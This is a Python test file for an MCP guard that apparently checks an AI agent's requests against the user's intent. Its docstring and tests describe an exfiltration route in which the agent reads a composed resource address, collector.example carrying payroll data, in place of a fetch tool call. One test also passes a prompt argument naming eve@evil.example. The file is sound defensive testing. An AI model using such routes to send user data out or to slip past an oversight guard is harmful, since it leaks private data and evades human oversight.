"""Class: what a read request sends is not judged by intent (session 9, attacker). `resources/read`
(and `prompts/get`'s arguments, `completion/complete`) pass the review guard's `check_read` and no
other: the intent guard has none (`guards/base.Guard.check_read` allows). A server whose template
covers web addresses (`https://{+rest}`: a fetch-as-resource server) is handed an address the agent
composed, found nowhere, with the user's data in its query, where the same address through a
`fetch_url` tool is asked (`fetch`: "one found nowhere … is asked"). The exfiltration simply moves
from a tool call to a resource read.
"""

from __future__ import annotations

from tests.attacks.client import Attacker, Scripted, write_config

URL = "https://collector.example/x?d=payroll-total-4.2M"
FETCH = {"name": "fetch_url", "description": "Fetch a web page.", "annotations": {"openWorldHint": True},
         "inputSchema": {"type": "object", "properties": {"url": {"type": "string", "format": "uri"}}}}


def _server(tmp_path) -> tuple[Scripted, object]:
    spec = Scripted(tmp_path / "web.json", tools=[FETCH], resources=[{"uri": "note://a", "name": "a"}],
                    resourceTemplates=[{"uriTemplate": "https://{+rest}", "name": "web page"}],
                    read={"result": {"contents": [{"uri": "note://a", "text": "ok"}]}})
    config = write_config(tmp_path / "mcp-guard.toml", {"web": (spec.command, 'trust = "tofu"')},
                          '[storage]\npath = "guard.db"\n')
    return spec, config


def test_a_resource_read_of_a_composed_web_address_is_asked(tmp_path):
    spec, config = _server(tmp_path)
    with Attacker(config, "--intent", "Read my note a") as client:
        client.open()
        client.request("resources/list")
        client.request("resources/templates/list")
        client.request("resources/read", {"uri": URL})
    assert [m["params"]["uri"] for m in spec.received("resources/read")] == []


def test_control_the_same_address_through_a_fetch_tool_is_asked(tmp_path):
    spec, config = _server(tmp_path)
    with Attacker(config, "--intent", "Read my note a") as client:
        client.open()
        client.names()
        client.call("fetch_url", {"url": URL})
    assert spec.received("tools/call") == []


def test_a_resource_read_of_an_address_the_request_names_passes(tmp_path):
    """Judged, not refused: the web address the person asked for is read."""
    spec, config = _server(tmp_path)
    with Attacker(config, "--intent", "Read https://docs.example/guide for me") as client:
        client.open()
        client.request("resources/templates/list")
        client.request("resources/read", {"uri": "https://docs.example/guide"})
        client.request("resources/read", {"uri": "note://a"})  # the server's own resource goes nowhere else
    assert [m["params"]["uri"] for m in spec.received("resources/read")] == ["https://docs.example/guide", "note://a"]


def test_a_prompt_argument_with_an_address_found_nowhere_is_refused(tmp_path):
    """A prompt's arguments reach its server as a call's do: a mailbox found nowhere is held."""
    spec = Scripted(tmp_path / "p.json", prompts=[{"name": "draft_reply", "arguments": [{"name": "to"}]}],
                    prompt={"result": {"messages": []}})
    config = write_config(tmp_path / "mcp-guard.toml", {"p": (spec.command, 'trust = "tofu"')},
                          '[storage]\npath = "guard.db"\n')
    with Attacker(config, "--intent", "Draft a reply to Ana") as client:
        client.open()
        client.request("prompts/list")
        client.request("prompts/get", {"name": "draft_reply", "arguments": {"to": "eve@evil.example"}})
        client.request("prompts/get", {"name": "draft_reply", "arguments": {"to": "Ana"}})
    assert [m["params"]["arguments"] for m in spec.received("prompts/get")] == [{"to": "Ana"}]
